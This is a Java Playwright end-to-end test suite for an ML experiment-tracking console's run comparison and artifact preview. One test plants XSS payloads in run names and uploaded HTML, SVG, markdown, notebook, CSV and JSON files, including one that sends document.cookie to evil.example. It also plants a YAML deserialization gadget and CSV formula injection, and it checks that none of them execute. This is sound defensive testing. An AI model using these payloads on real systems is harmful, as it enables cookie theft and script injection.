package dev.tenon.journey;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Browser;
import com.microsoft.playwright.Playwright;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.List;
import java.util.Map;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/// Runs beside each other, and the files of a run looked at: also those that somebody has made to
/// do harm.
class CompareE2E {
    private static final String PROJECT = "/t/acme/p/churn";
    /// Whatever of it runs says so: in the page, in its own frame, or to another server.
    private static final String POLICY =
            "fetch(location.href).then(page => page.headers.get('Content-Security-Policy'))";
    private static final String HARM =
            "window.owned = 1; document.body.dataset.owned = 1; top.owned = 1; fetch('https://evil.example/' + document.cookie)";

    private static RunningStack stack;
    private static Playwright playwright;
    private static Browser browser;
    private static RunsByHand runs;

    @BeforeAll
    static void startEverything() {
        stack = RunningStack.start();
        playwright = Visitor.playwright();
        browser = Visitor.browser(playwright);
        var token = stack.env("acme/churn", "scientist").get("TENON_TOKEN");
        runs = new RunsByHand(new Caller(token), stack.url() + PROJECT);
    }

    @AfterAll
    static void stopEverything() {
        if (browser != null) browser.close();
        if (playwright != null) playwright.close();
        if (stack != null) stack.close();
    }

    @Test
    void runsAreComparedByWhatDiffersAndAgainstABaseline() {
        var one = run("one-" + System.nanoTime(), "0.1", "1", 0.50);
        var two = run("two-" + System.nanoTime(), "0.1", "2", 0.52);
        var far = run("far-" + System.nanoTime(), "0.9", "1", 0.80);
        try (var owner = visitor()) {
            owner.open(compare(one, two, far)).sees("batch_size");
            assertThat(owner.find("[role=columnheader] a").count()).isEqualTo(3);
            owner.press("Only differences");
            owner.find("[role=rowheader]:has-text('learning_rate')").waitFor();
            assertThat(owner.find("[role=rowheader]:has-text('batch_size')").count()).isZero();
            owner.find("select").first().selectOption(one.id());
            owner.waitForPath("baseline=" + one.id());
            assertThat(owner.find("[data-tone=noise]").first().textContent()).contains("+4.0 %");
            assertThat(owner.find("[data-tone=worse]").first().textContent()).contains("+60.0 %");
            owner.open(owner.address()).sees("learning_rate");
            assertThat(owner.find("[data-tone=worse]").count()).isEqualTo(1);
            owner.find("input[type=search]").first().fill("loss");
            owner.find("[role=rowheader]:has-text('learning_rate')").waitFor(gone());
            owner.press("Transpose").find("[role=columnheader]:has-text('loss')").waitFor();
            owner.press("Leave " + name(far) + " out");
            owner.find("[role=rowheader]:has-text('" + name(far) + "')").waitFor(gone());
            assertThat(owner.address()).doesNotContain(far.id());
            owner.picture("compare");
        }
    }

    @Test
    void theSameRunsAreDrawnOverEachOther() {
        var one = run("drawn-one-" + System.nanoTime(), "0.1", "1", 0.50);
        var two = run("drawn-two-" + System.nanoTime(), "0.2", "1", 0.60);
        var three = run("drawn-three-" + System.nanoTime(), "0.3", "1", 0.75);
        try (var owner = visitor()) {
            owner.open(compare(one, two, three)).sees("learning_rate").press("Scatter");
            owner.sees("3 of 3 runs have both").find(".tn-cmp-plot canvas").first().waitFor();
            owner.press("Parallel coordinates").sees("Drag along an axis");
            owner.find(".tn-cmp-plot canvas").first().waitFor();
            owner.press("Charts").find("tenon-chart canvas").first().waitFor();
            owner.waitForPath("view=charts");
            owner.picture("compare-charts");
        }
    }

    @Test
    void filesOfEveryKindAreLookedAt() {
        var run = run("files-" + System.nanoTime(), "0.1", "1", 0.5);
        runs.file(run, "README.md", "# What this is\n\nSee [the table](data/table.csv).");
        runs.file(run, "data/table.csv", "name,amount\nann,1\nbob,2\n");
        runs.file(run, "conf/settings.yaml", "model:\n  depth: 3\n");
        runs.file(run, "metrics.json", "{\"auc\":0.9,\"by\":{\"age\":[1,2]}}");
        runs.file(run, "log.txt", "first\nsecond\n");
        runs.file(run, "plot.png", picture());
        runs.file(run, "weights.xyz", new byte[] {0, 1, 2, (byte) 0xff});
        runs.file(
                run,
                "work.ipynb",
                "{\"cells\":[{\"cell_type\":\"code\",\"source\":[\"print(41+1)\"],\"outputs\":[{\"output_type\":\"stream\",\"text\":[\"42\"]}]}]}");
        runs.file(
                run,
                "model/MLmodel",
                "flavors:\n  sklearn: {}\nsignature:\n  inputs: '[{\"name\": \"age\", \"type\": \"double\"}]'\n");
        try (var owner = visitor()) {
            openFiles(owner, run);
            choose(owner, "README.md").sees("What this is");
            owner.press("the table").find(".tn-csv td:has-text('bob')").waitFor();
            owner.sees("mean 1.5").waitForPath("file=data");
            choose(owner, "metrics.json").find(".tn-tree-key:has-text('auc')").waitFor();
            choose(owner, "log.txt").find(".tn-text-words:has-text('second')").waitFor();
            choose(owner, "plot.png").sees("4 × 4 pixels");
            owner.press("Larger").sees("%");
            choose(owner, "weights.xyz").sees("00000000");
            choose(owner, "work.ipynb").find(".tn-output:has-text('42')").waitFor();
            choose(owner, "conf");
            choose(owner, "settings.yaml").find(".tn-tree-key:has-text('depth')").waitFor();
            owner.find("input[placeholder='Find by path']").fill("MLMODEL");
            choose(owner, "model/MLmodel").sees("Can be loaded as sklearn");
            owner.find(".tn-ports td:has-text('age')").waitFor();
            owner.open(owner.address()).sees("Can be loaded as sklearn").picture("files");
        }
    }

    @Test
    void nothingInAFileOrANameRunsInTheConsole() {
        var name = "<img src=x onerror=\"%s\">".formatted(HARM);
        var run = runs.run(name, Map.of("p", name), Map.of("m", new double[] {1}));
        var other = runs.run(name, Map.of("p", "x"), Map.of("m", new double[] {2}));
        var page =
                "<h1>Report</h1><script>%s</script><img src=x onerror=\"%s\"><img src='https://evil.example/p.png'><meta http-equiv=refresh content='0;url=https://evil.example/r'><form action='https://evil.example/f'><button>Go</button></form>"
                        .formatted(HARM, HARM);
        runs.file(run, "page.html", page);
        runs.file(
                run,
                "drawing.svg",
                "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9' onload=\"%s\"><script>%s</script><image href='https://evil.example/i.png'/><rect width='9' height='9'/></svg>"
                        .formatted(HARM, HARM));
        runs.file(
                run,
                "notes.md",
                "# Notes\n\n%s\n\n[press](javascript:%s) ![x](https://evil.example/m.png) <tn-live src='https://evil.example/l' topics='x'></tn-live>\n\n![x](data:text/html,<script>%s</script>)"
                        .formatted(page, "window.owned=1", HARM));
        runs.file(
                run,
                "work.ipynb",
                "{\"cells\":[{\"cell_type\":\"code\",\"source\":\"x\",\"outputs\":[{\"data\":{\"text/html\":[%s],\"application/javascript\":\"window.owned=1\"}},{\"data\":{\"text/html\":\"<p>Second</p>\"}}]}]}"
                        .formatted(quoted(page)));
        runs.file(run, "table.csv", "a,b\n\"%s\",2\n".formatted(page.replace("\"", "\"\"")));
        runs.file(run, "pretends.png", page);
        runs.file(run, "bomb.yaml", "!!javax.script.ScriptEngineManager [x]\n");
        runs.file(
                run,
                "onerror=alert(1) 'quoted' & more.json",
                "{\"<img src=x onerror=alert(1)>\": \"</script>\"}");
        try (var owner = visitor()) {
            var asked = owner.listen();
            openFiles(owner, run);
            assertThat((String) owner.evaluate(POLICY)).contains("default-src 'self'");
            choose(owner, "page.html").sees("Shown without scripts");
            var frame = owner.find("iframe.tn-frame").contentFrame();
            frame.getByText("Report").waitFor();
            assertThat(frame.locator("body[data-owned]").count()).isZero();
            assertThat(owner.find("iframe.tn-frame").getAttribute("sandbox")).isEmpty();
            choose(owner, "drawing.svg").sees("9 × 9 pixels");
            choose(owner, "notes.md").find(".tn-markdown h3:has-text('Notes')").waitFor();
            assertThat(owner.find(".tn-markdown :is(script, img, form, iframe, tn-live)").count())
                    .isZero();
            assertThat(owner.find(".tn-markdown a:not([href^=http])").count()).isZero();
            choose(owner, "work.ipynb").find(".tn-notebook iframe").first().waitFor();
            choose(owner, "table.csv").find(".tn-csv td:has-text('Report')").waitFor();
            choose(owner, "pretends.png").find(".tn-text-words:has-text('Report')").waitFor();
            choose(owner, "bomb.yaml").sees("can't be read as YAML");
            choose(owner, "more.json").find(".tn-tree-key:has-text('onerror')").waitFor();
            var named =
                    owner.find(":is([role=columnheader], [role=rowheader]):has-text('onerror')");
            owner.open(compare(run, other));
            named.first().waitFor();
            owner.press("Scatter").press("Parallel coordinates").press("Table").press("Transpose");
            named.first().waitFor();
            assertThat(owner.evaluate("window.owned")).isNull();
            assertThat(owner.evaluate("document.body.dataset.owned")).isNull();
            assertThat(asked).noneMatch(address -> address.contains("evil.example"));
        }
    }

    @Test
    void aFolderOfThousandsComesAThousandAtATime() {
        var run = run("many-" + System.nanoTime(), "0.1", "1", 0.5);
        for (int i = 0; i < 1005; i++) runs.file(run, "many/%04d.txt".formatted(i), "x");
        try (var owner = visitor()) {
            openFiles(owner, run);
            choose(owner, "many").find("[data-path='many/0999.txt']").waitFor();
            assertThat(owner.find("[data-path^='many/']").count()).isEqualTo(1000);
            owner.find(".tn-fb-more").click();
            owner.find("[data-path='many/1004.txt']").waitFor();
            assertThat(owner.find(".tn-fb-more").count()).isZero();
        }
    }

    @Test
    void whatIsCopiedIsDataAndWhatIsReadIsTold() {
        try (var owner = visitor()) {
            owner.open(PROJECT + "/compare").sees("Nothing to compare yet");
            assertThat(
                            asked(
                                    owner,
                                    "compare/model.js",
                                    "csv([{id: '1', name: '=cmd()'}], [{section: 'Tags', key: 'a,b', values: ['-1']}, {section: 'Tags', key: 'c', values: ['@x']}])"))
                    .isEqualTo(
                            "section,key,'=cmd()\r\n,run id,1\r\nTags,\"a,b\",-1\r\nTags,c,'@x\r\n");
            assertThat(
                            asked(
                                    owner,
                                    "compare/model.js",
                                    "direction('val/loss', [], []) + ',' + module.direction('trainAccuracy', [], []) + ',' + module.direction('glossary', [], []) + ',' + module.direction('depth', ['depth'], [])"))
                    .isEqualTo("-1,1,0,1");
            assertThat(
                            asked(
                                    owner,
                                    "preview/table.js",
                                    "records('a,\"b\"\"c\\nd\",\\r\\n1,,2\\n', ',', 9).map(line => line.join('|')).join(';')"))
                    .isEqualTo("a|b\"c\nd|;1||2");
        }
    }

    /// What a module of the console answers.
    private static Object asked(Visitor visitor, String module, String words) {
        return visitor.evaluate(
                "import('/tenon/%s').then(module => module.%s)".formatted(module, words));
    }

    private static RunsByHand.Made run(String name, String rate, String seed, double loss) {
        return runs.run(
                name,
                Map.of("learning_rate", rate, "seed", seed, "batch_size", "32"),
                Map.of("loss", new double[] {1, loss}));
    }

    private static byte[] picture() {
        var bytes = new ByteArrayOutputStream();
        try {
            ImageIO.write(new BufferedImage(4, 4, BufferedImage.TYPE_INT_RGB), "png", bytes);
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return bytes.toByteArray();
    }

    private static String compare(RunsByHand.Made... made) {
        var ids = java.util.Arrays.stream(made).map(RunsByHand.Made::id).toList();
        return PROJECT + "/compare?runs=" + String.join(",", ids);
    }

    private static String name(RunsByHand.Made made) {
        var shown =
                new Caller(runs.caller().token())
                        .json(stack.url() + PROJECT + "/api/v1/runs/" + made.id());
        return shown.path("name").asString();
    }

    private static void openFiles(Visitor visitor, RunsByHand.Made run) {
        visitor.open(PROJECT + "/runs/" + run.id() + "?tab=artifacts");
        visitor.find("[role=treeitem]").first().waitFor();
    }

    private static Visitor choose(Visitor visitor, String path) {
        visitor.find("[role=treeitem] > .tn-fb-row:has-text(\"" + path + "\")").first().click();
        return visitor;
    }

    private static Visitor visitor() {
        return new Visitor(browser, stack.url()).signIn("owner@acme.example", "tenon-owner");
    }

    private static com.microsoft.playwright.Locator.WaitForOptions gone() {
        return new com.microsoft.playwright.Locator.WaitForOptions()
                .setState(com.microsoft.playwright.options.WaitForSelectorState.HIDDEN);
    }

    private static String quoted(String text) {
        return tools.jackson.databind.json.JsonMapper.shared()
                .writeValueAsString(List.of(text))
                .replaceFirst("^\\[", "")
                .replaceFirst("]$", "");
    }
}
